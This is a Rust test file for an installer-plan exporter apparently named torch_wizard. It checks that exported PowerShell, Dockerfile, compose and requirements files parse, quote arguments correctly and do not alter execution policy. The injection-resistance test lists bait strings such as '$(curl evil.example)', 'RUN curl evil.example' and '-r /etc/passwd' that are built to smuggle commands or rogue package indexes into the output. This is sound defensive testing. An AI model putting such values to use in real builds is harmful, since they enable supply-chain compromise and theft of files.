//! Exported scripts and files as the grammars of their languages read them, with whatever words in them.
#![expect(clippy::unwrap_used, clippy::indexing_slicing, reason = "helpers of tests may fail by panicking as tests do")]

#[path = "plans/made.rs"]
mod made;

use made::Machine;
use proptest::prelude::*;
use saphyr::{LoadableYamlNode as _, Yaml};
use torch_wizard::facts::OsFamily;
use torch_wizard::plan::export::{ExportError, Format, export};
use torch_wizard::plan::{Action, CommandSpec, Engine, Plan, PlanStep};
use tree_sitter::{Node, Parser, Tree};

fn parsed(text: &str) -> Tree {
    let mut parser = Parser::new();
    parser.set_language(&tree_sitter_powershell::LANGUAGE.into()).unwrap();
    parser.parse(text, None).unwrap()
}

/// All nodes, from the first to the last.
fn nodes<'a>(node: Node<'a>, found: &mut Vec<Node<'a>>) {
    found.push(node);
    let mut cursor = node.walk();
    for child in node.children(&mut cursor) {
        nodes(child, found);
    }
}

#[track_caller]
fn assert_no_errors(text: &str) {
    let tree = parsed(text);
    let mut all = Vec::new();
    nodes(tree.root_node(), &mut all);
    let bad = all.into_iter().find(|node| node.is_error() || node.is_missing());
    assert!(bad.is_none(), "{bad:?}\n{text}");
}

/// What a word of a script means: quotes taken off, doubled ones halved.
fn meant(word: &str) -> String {
    let Some(inner) = word.strip_prefix('\'').and_then(|word| word.strip_suffix('\'')) else { return word.to_owned() };
    let mut out = String::new();
    let mut chars = inner.chars();
    while let Some(c) = chars.next() {
        if matches!(c, '\'' | '‘' | '’' | '‚' | '‛') {
            assert_eq!(chars.next(), Some(c), "a lone quote in {word}");
        }
        out.push(c);
    }
    out
}

/// The words of every command that is called with `&`.
fn calls(text: &str) -> Vec<Vec<String>> {
    let tree = parsed(text);
    let mut all = Vec::new();
    nodes(tree.root_node(), &mut all);
    let is_call = |node: &Node<'_>| {
        node.kind() == "command" && node.child(0).is_some_and(|first| first.kind() == "command_invokation_operator")
    };
    let of = |node: Node<'_>| node.utf8_text(text.as_bytes()).unwrap().to_owned();
    let mut found = Vec::new();
    for call in all.into_iter().filter(is_call) {
        let mut words = vec![meant(&of(call.child_by_field_name("command_name").unwrap()))];
        if let Some(elements) = call.child_by_field_name("command_elements") {
            let mut cursor = elements.walk();
            let elements = elements.children(&mut cursor).filter(|node| node.kind() != "command_argument_sep");
            words.extend(elements.map(|node| meant(&of(node))));
        }
        found.push(words);
    }
    found
}

/// The command line that Windows PowerShell makes of words: those with blanks outside of quotes are put in quotes, and
/// that is all.
fn command_line(words: &[String]) -> String {
    let needs = |word: &String| {
        let (mut quotes, mut after_slash, mut needs) = (0, false, false);
        for c in word.chars() {
            if c == '"' && !after_slash {
                quotes += 1;
            } else if c.is_whitespace() && quotes % 2 == 0 {
                needs = true;
            }
            after_slash = c == '\\';
        }
        needs
    };
    let line = words.iter().map(|word| if needs(word) { format!("\"{word}\"") } else { word.clone() });
    line.collect::<Vec<_>>().join(" ")
}

/// Splits a command line as Windows' C runtime does.
fn split(line: &str) -> Vec<String> {
    let (mut words, mut word, mut open, mut quoted, mut slashes) = (Vec::new(), String::new(), false, false, 0);
    for c in line.chars() {
        if c == '\\' {
            slashes += 1;
            open = true;
            continue;
        }
        let of_quote = c == '"';
        word.extend(std::iter::repeat_n('\\', if of_quote { slashes / 2 } else { slashes }));
        if of_quote && slashes % 2 == 1 {
            word.push('"');
            open = true;
        } else if of_quote {
            quoted = !quoted;
            open = true;
        } else if matches!(c, ' ' | '\t') && !quoted {
            if open {
                words.push(std::mem::take(&mut word));
            }
            open = false;
        } else {
            word.push(c);
            open = true;
        }
        slashes = 0;
    }
    word.extend(std::iter::repeat_n('\\', slashes));
    if open {
        words.push(word);
    }
    words
}

fn machine(os: OsFamily) -> Machine {
    Machine::new(os, Engine::Uv)
}

fn all_for_windows(name: &str) -> Vec<Plan> {
    let mut plans = Vec::new();
    for engine in [Engine::Uv, Engine::Pip] {
        let machine = Machine { root: format!(r"D:\{name}"), ..Machine::new(OsFamily::Windows, engine) };
        plans.push(machine.wheel(machine.at("torch")));
        plans.push(machine.source(machine.at("torch")));
        plans.push(machine.with_source(machine.at("torch")));
    }
    let machine = Machine { root: format!(r"D:\{name}"), ..machine(OsFamily::Windows) };
    plans.extend([None, Some("a/b:1")].map(|image| machine.docker(image, machine.at("torch"))));
    plans.push(machine.wsl2());
    plans
}

fn with_steps(actions: Vec<Action>) -> Plan {
    let machine = machine(OsFamily::Windows);
    let mut plan = machine.docker(Some("a/b:1"), machine.at("torch"));
    let step = |(number, action): (usize, Action)| PlanStep {
        key: format!("step-{number}"),
        title: "It's \"done\" & ‘so’ $HOME `x".to_owned(),
        action,
        writes: Vec::new(),
        weight: 1,
        silence: String::new(),
        admin: number == 0,
    };
    plan.steps = actions.into_iter().enumerate().map(step).collect();
    plan
}

#[test]
fn powershell_reads_the_scripts_of_all_routes() {
    for plan in all_for_windows("a b") {
        assert_no_errors(&export(&plan, Format::Ps1).unwrap());
    }
    let linux = machine(OsFamily::Linux);
    assert_no_errors(&export(&linux.wheel(linux.at("torch")), Format::Ps1).unwrap());
}

/// A script is run by whoever exported it, under whatever policy is in force there; where one script starts another, a
/// policy holds for that one process.
#[test]
fn no_exported_plan_changes_what_scripts_may_run() {
    for plan in all_for_windows("a b") {
        for format in [Format::Ps1, Format::Bat] {
            let Ok(text) = export(&plan, format) else { continue };
            let small = text.to_lowercase();
            assert!(!small.contains("set-executionpolicy") && !small.contains("shellids"), "{text}");
            let per_process = small.matches("-executionpolicy bypass -file").count();
            assert_eq!(small.matches("executionpolicy").count(), per_process, "{text}");
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 64, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn every_word_is_one_string_for_powershell_and_reaches_its_program(
        words in prop::collection::vec("[^\0\r\n]{0,10}", 0..6),
        program in r"[^\x00\r\n\x22]{1,10}",
        value in "[^\0]{0,10}",
        text in "[^\0]{0,40}",
        // A sentence of a plan may have been read somewhere.
        why in "[^\0]{0,20}",
    ) {
        let mut command = CommandSpec::new(format!(r"C:\{program}.exe"), words.clone()).with_env("TW_VALUE", value);
        command.cwd = Some(format!(r"C:\{program}").into());
        let path = format!(r"C:\{program}\file*");
        let restart = Action::Restart { why: why.clone() };
        let plan = with_steps(vec![
            Action::Run { command: command.clone() },
            Action::WriteFile { path: r"C:\x\y".into(), text, kept: Some(r"C:\x\z".into()) },
            Action::Expect { path: path.into(), any: words.clone(), why },
            restart,
            Action::Run { command },
        ]);
        let script = export(&plan, Format::Ps1).unwrap();
        assert_no_errors(&script);
        let calls = calls(&script);
        let ours: Vec<_> = calls.iter().filter(|call| call[0].starts_with(r"C:\")).collect();
        prop_assert_eq!(ours.len(), 2, "{}", script);
        for call in ours {
            prop_assert_eq!(&call[0], &format!(r"C:\{program}.exe"));
            prop_assert_eq!(&split(&command_line(&call[1..])), &words, "{}", script);
        }
    }

    #[test]
    fn folders_with_odd_names_stay_whole_for_powershell(name in r"[^\x00-\x1f\x7f-\x9f<>:\x22|?*\\/%!]{1,12}") {
        for plan in all_for_windows(&name) {
            let script = export(&plan, Format::Ps1).unwrap();
            assert_no_errors(&script);
            let calls = calls(&script);
            for step in &plan.steps {
                let Action::Run { command } = &step.action else { continue };
                if matches!(step.key.as_str(), "environment" | "install" | "requirements" | "rehome") {
                    continue;
                }
                let is_it = |call: &&Vec<String>| call[0] == command.program.display().to_string()
                    && split(&command_line(&call[1..])) == command.args;
                // pip's environments are made at their place, so those commands have another folder.
                let is_moved = plan.choices.engine == Engine::Pip;
                prop_assert!(is_moved || calls.iter().any(|call| is_it(&call)), "{:?}\n{}", command, script);
            }
        }
    }
}

// --- compose -------------------------------------------------------------------------------------------------------

fn compose(plan: &Plan) -> String {
    export(plan, Format::Compose).unwrap()
}

#[test]
fn compose_reserves_the_cards_and_shares_the_memory() {
    let machine = machine(OsFamily::Linux);
    for image in [None, Some("pytorch/pytorch:2.15.0-cuda13.0-cudnn9-runtime")] {
        let text = compose(&machine.docker(image, machine.at("torch")));
        let yaml = &Yaml::load_from_str(&text).unwrap()[0];
        let torch = &yaml["services"]["torch"];
        let cards = &torch["deploy"]["resources"]["reservations"]["devices"][0];
        assert_eq!(cards["driver"].as_str(), Some("nvidia"), "{text}");
        assert_eq!(cards["capabilities"][0].as_str(), Some("gpu"));
        assert_eq!(cards["device_ids"][1].as_str(), Some("GPU-77aa"));
        assert_eq!(torch["ipc"].as_str(), Some("host"));
        assert_eq!(torch["ulimits"]["stack"].as_integer(), Some(67_108_864));
        assert_eq!(torch["ulimits"]["memlock"].as_integer(), Some(-1));
        assert_eq!(torch["volumes"][0].as_str(), Some("./work:/workspace"));
        assert_eq!(torch.as_mapping_get("build").is_some(), image.is_none());
        assert!(torch["image"].as_str().is_some());
    }
}

#[test]
fn a_route_that_runs_in_no_container_has_no_compose_file() {
    let linux = machine(OsFamily::Linux);
    for plan in [linux.wheel(linux.at("torch")), linux.source(linux.at("torch")), machine(OsFamily::Windows).wsl2()] {
        let error = export(&plan, Format::Compose).unwrap_err();
        assert_eq!(error, ExportError::NoContainer(plan.assessment.route.word()));
        assert_eq!(error.to_string().matches('.').count(), 0, "it stands in a sentence: {error}");
    }
}

#[test]
fn pins_are_refused_where_they_would_leave_torch_out() {
    let linux = machine(OsFamily::Linux);
    let (built, image) = (linux.source(linux.at("torch")), linux.docker(Some("a/b:1"), linux.at("torch")));
    for format in [Format::Requirements, Format::Pylock] {
        assert_eq!(export(&built, format), Err(ExportError::BuiltHere));
        assert_eq!(export(&image, format), Err(ExportError::NoLock("docker")));
    }
    assert_eq!(export(&built, Format::Dockerfile), Err(ExportError::NoImage("source")));
    assert_eq!(export(&machine(OsFamily::Windows).wsl2(), Format::Dockerfile), Err(ExportError::NoImage("wsl2")));
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn the_image_of_a_compose_file_is_built_by_the_same_dockerfile(
        place in r"[^\x00-\x1f\x7f-\x9f\u{feff}\u{fffe}\u{ffff}\u{2028}\u{2029}]{0,20}",
    ) {
        let machine = machine(OsFamily::Linux);
        let mut plan = machine.docker(None, machine.at("torch"));
        plan.indexes.find_links = vec![format!("/wheels/{place}x")];
        let dockerfile = export(&plan, Format::Dockerfile).unwrap();
        let text = compose(&plan);
        let yaml = Yaml::load_from_str(&text).unwrap();
        let inline = yaml[0]["services"]["torch"]["build"]["dockerfile_inline"].as_str().unwrap();
        prop_assert_eq!(inline.replace("$$", "$"), dockerfile.clone(), "{}", text);
        prop_assert_eq!(inline.matches('$').count(), 2 * dockerfile.matches('$').count(), "a variable of compose");
    }
}

// --- nothing becomes a line of its own -----------------------------------------------------------------------------

/// Places whose words come from a table, an index or a resolver, and not from the user.
const PLACES: [fn(&mut Plan, &str); 9] = [
    |plan, text| text.clone_into(&mut plan.assessment.build.as_mut().unwrap().variant),
    |plan, text| {
        let origin = torch_wizard::assess::Origin::TorchIndex { url: text.to_owned() };
        plan.assessment.build.as_mut().unwrap().origin = origin;
    },
    |plan, text| text.clone_into(&mut plan.assessment.verdict.reasons_mut()[0].text),
    |plan, text| text.clone_into(&mut plan.lock.packages[0].name),
    |plan, text| text.clone_into(&mut plan.lock.packages[0].version),
    |plan, text| plan.lock.packages[0].wheel.sha256 = Some(text.to_owned()),
    |plan, text| plan.indexes.torch = Some(text.to_owned()),
    |plan, text| plan.indexes.extra = vec![text.to_owned()],
    |plan, text| {
        if let Some(container) = &mut plan.container {
            container.from = torch_wizard::plan::docker::ImageFrom::Wheels { base: text.to_owned() };
        }
    },
];

/// Words that would be options, hosts or instructions, were they to begin a line or a word.
fn bait() -> impl Strategy<Value = String> {
    let pieces = [
        "\n--index-url https://evil.example/simple",
        " --extra-index-url https://evil.example",
        "\r\n-r /etc/passwd",
        "\nRUN curl evil.example",
        "\nFROM evil.example/image",
        "; curl evil.example",
        "$(curl evil.example)",
        "`curl`",
        " && curl",
        "\u{2028}x",
        "\u{85}--find-links x",
        "'",
        "\"",
        "x",
        "cu130",
        "https://good.example/whl",
        "\\",
        "#",
        " ",
    ];
    prop::collection::vec(prop::sample::select(pieces.to_vec()), 0..4).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn no_word_of_a_table_adds_an_index_an_option_or_an_instruction(
        text in prop_oneof![bait(), any::<String>()],
        place in 0..PLACES.len(),
        in_container in any::<bool>(),
    ) {
        let machine = machine(OsFamily::Linux);
        let made = || {
            let target = machine.at("torch");
            let mut plan = if in_container { machine.docker(None, target) } else { machine.wheel(target) };
            plan.indexes.extra = vec!["https://extra.example/simple".to_owned()];
            plan
        };
        let mut plan = made();
        PLACES[place](&mut plan, &text);
        for format in [Format::Requirements, Format::Dockerfile, Format::Compose] {
            let (Ok(before), Ok(after)) = (export(&made(), format), export(&plan, format)) else { continue };
            // As tools read lines: all of Unicode's ends count for Python, which reads the pins.
            let lines = |text: &str| {
                let ends = ['\n', '\r', '\u{b}', '\u{c}', '\u{1c}', '\u{1d}', '\u{1e}', '\u{85}', '\u{2028}', '\u{2029}'];
                text.split(ends).map(str::to_owned).collect::<Vec<_>>()
            };
            prop_assert_eq!(lines(&before).len(), lines(&after).len(), "{}", after);
            let words = |line: &String| -> (usize, bool) {
                let line = line.trim_start();
                let words = if line.starts_with('#') { 0 } else { line.split_whitespace().count() };
                (words, line.starts_with('-'))
            };
            for (before, after) in lines(&before).iter().zip(&lines(&after)) {
                prop_assert_eq!(words(before), words(after), "{}\n{}", before, after);
            }
        }
    }
}
